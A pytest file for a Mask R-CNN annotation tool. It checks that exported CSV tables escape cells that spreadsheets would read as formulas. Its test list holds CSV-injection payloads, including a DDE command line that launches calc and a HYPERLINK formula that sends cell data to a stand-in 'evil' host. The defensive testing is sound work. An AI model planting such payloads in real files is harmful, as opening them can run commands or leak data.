"""Cells of the tables that are downloaded: no spreadsheet takes a stranger's words for a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image

from maskrcnn.annotations import read
from maskrcnn.annotations.dataset import Dataset, ImageRecord
from maskrcnn.annotations.formats import writing
from maskrcnn.annotations.formats.spreadsheet import csv_of, harmless, is_formula
from maskrcnn.annotations.formats.via import csv_reading
from maskrcnn.annotations.regions import Circle, Region
from maskrcnn.annotations.store import Project
from maskrcnn.runs.folder import METRICS, RunFolder
from maskrcnn.studio.dataset import export_view
from maskrcnn.studio.runs import run_downloads

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    "\" '=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'a; "@SUM(1)',
]
PLAIN = ["cell", "a=b", "x-ray", "me@home", "1+1", "", " ", "a; b", "'quoted'", "3;4", "ä", "mask_ap", "a, -b"]


def begins_like_a_formula(cell: str) -> bool:
    """What a spreadsheet sees: the first sign after blanks and quotation marks. An apostrophe says: this is a text."""
    signs = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
    return cell.startswith(("\t", "\r", "\n")) or cell.lstrip(' \u00a0\u200b\ufeff"').startswith(signs)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_is_a_formula_is_made_harmless(text: str) -> None:
    assert is_formula(text)
    made = harmless(text)
    assert not begins_like_a_formula(made)
    for separator in ";\t\n":  # what other programs take for the end of a cell
        assert not any(begins_like_a_formula(part) for part in made.split(separator)), made
    assert made.replace("'", "") == text.replace("'", "")  # nothing but apostrophes was added


@pytest.mark.parametrize("text", PLAIN)
def test_another_text_stays(text: str) -> None:
    assert not is_formula(text)
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    for number in (-1, -0.5, 3, True, None, float("-inf")):
        assert harmless(number) is number
    frame = pd.DataFrame({"=header": [-1, 2], "loss": [-0.5, 1e-7], "name": ["=1", "a"], "mixed": [-3, "-x"]})
    assert csv_of(frame).splitlines() == ["'=header,loss,name,mixed", "-1,-0.5,'=1,-3", "2,1e-07,a,'-x"]


def test_a_table_with_categories_times_and_one_name_twice() -> None:
    frame = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert csv_of(frame) == "a,a\n'=1,'=2\n"
    named = pd.DataFrame({"kind": pd.Categorical(["=1", "b"]), "at": pd.to_datetime(["2020-01-01", "2020-01-02"])})
    assert csv_of(named) == "kind,at\n'=1,2020-01-01\nb,2020-01-02\n"
    assert csv_of(pd.DataFrame({"a": []})) == "a\n"


# What is downloaded


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("formula", ["=1+1", "+1", "-x", "@SUM(1)", "\t=1", " =1", '"=1'])
def test_the_tables_of_a_run(formula: str, tmp_path: Path) -> None:
    """Names of fields, and texts in rows, of a metrics.jsonl that a stranger wrote."""
    run = RunFolder(tmp_path / "run")
    run.path.mkdir()
    about = {"epoch": 1, "step": 1, "progress": 0.5, "eta": 1.0, "elapsed": 1.0, "loss": -0.5}
    rows = [{**about, "event": "step", formula: 1}, {**about, "event": "epoch", formula: 1, "layers": formula}]
    (run.path / METRICS).write_text("".join(json.dumps(row) + "\n" for row in rows))
    tables = [run_downloads.epochs_csv(run), run_downloads.steps_csv(run)]
    with zipfile.ZipFile(run_downloads.archive(run)) as archive:
        tables += [archive.read(name) for name in archive.namelist() if name.endswith(".csv")]
    assert len(tables) == 4
    for content in tables:
        cells = cells_of(content)
        assert "-0.5" in cells
        assert not [cell for cell in cells if begins_like_a_formula(cell) and not is_number(cell)]


def test_a_row_without_its_epoch_is_no_traceback(tmp_path: Path) -> None:
    run = RunFolder(tmp_path / "run")
    run.path.mkdir()
    rows = [{"event": "step", "step": 1, "loss": 1}, {"event": "epoch", "loss": 1}]
    (run.path / METRICS).write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert run_downloads.steps_csv(run)
    assert run_downloads.epochs_csv(run)


# VIA's CSV, which has to read back the same names


def test_a_name_in_via_csv_stays_and_a_line_says_so() -> None:
    regions = (Region(Circle(3, 3, 1), "=cmd()"), Region(Circle(5, 5, 1), "leaf"))
    dataset = Dataset(
        (ImageRecord("=1+1.jpg", regions), ImageRecord("-a.jpg"), ImageRecord("b.jpg")), ("=cmd()", "leaf")
    )
    encoded = writing.encode(dataset, "via-csv")
    [line] = encoded.warnings
    assert line == (
        "the dataset: 2 pictures whose name a spreadsheet takes for a formula, kept as VIA needs it; do not open the "
        "file in a spreadsheet"
    )
    [content] = encoded.files.values()
    again = csv_reading.parse(content.decode(), "labels.csv")
    assert [record.file_name for record in again.images] == ["=1+1.jpg", "-a.jpg", "b.jpg"]
    # Attributes are JSON between braces, and no cell begins with one of their values.
    assert again.images[0].regions[0].class_name == "=cmd()"


def test_further_columns_that_a_file_had_are_counted_too(tmp_path: Path) -> None:
    header = ",".join([*csv_reading.COLUMNS, "=column"])
    row = 'a.jpg,-1,{},1,0,"{""name"":""point"",""cx"":1,""cy"":1}",{}'
    (tmp_path / "labels.csv").write_text(f"{header}\n{row},=1+1\n{row.replace(',1,0,', ',2,0,')},fine\n")
    dataset = read(tmp_path / "labels.csv")
    warnings = writing.encode(dataset, "via-csv").warnings
    assert [line.split(": ")[1].split(" a spreadsheet")[0] for line in warnings] == [
        "1 region with a cell that",
        "a column whose name",
    ]


def test_an_ordinary_table_has_no_such_line() -> None:
    dataset = Dataset((ImageRecord("a.jpg", (Region(Circle(3, 3, 1), "leaf"),), file_size=-1),), ("leaf",))
    assert writing.encode(dataset, "via-csv").warnings == ()


def test_the_line_is_there_before_the_download(tmp_path: Path) -> None:
    project = Project.create(tmp_path / "p")
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG")
    project.add_pictures([("=1+1.png", buffer.getvalue())], "train")
    ready = export_view.prepared(project, "via-csv", "all", pictures=False)
    assert [line for line in ready.warnings if line.startswith("1 picture whose name a spreadsheet takes")]
    assert not export_view.prepared(project, "coco", "all", pictures=False).warnings
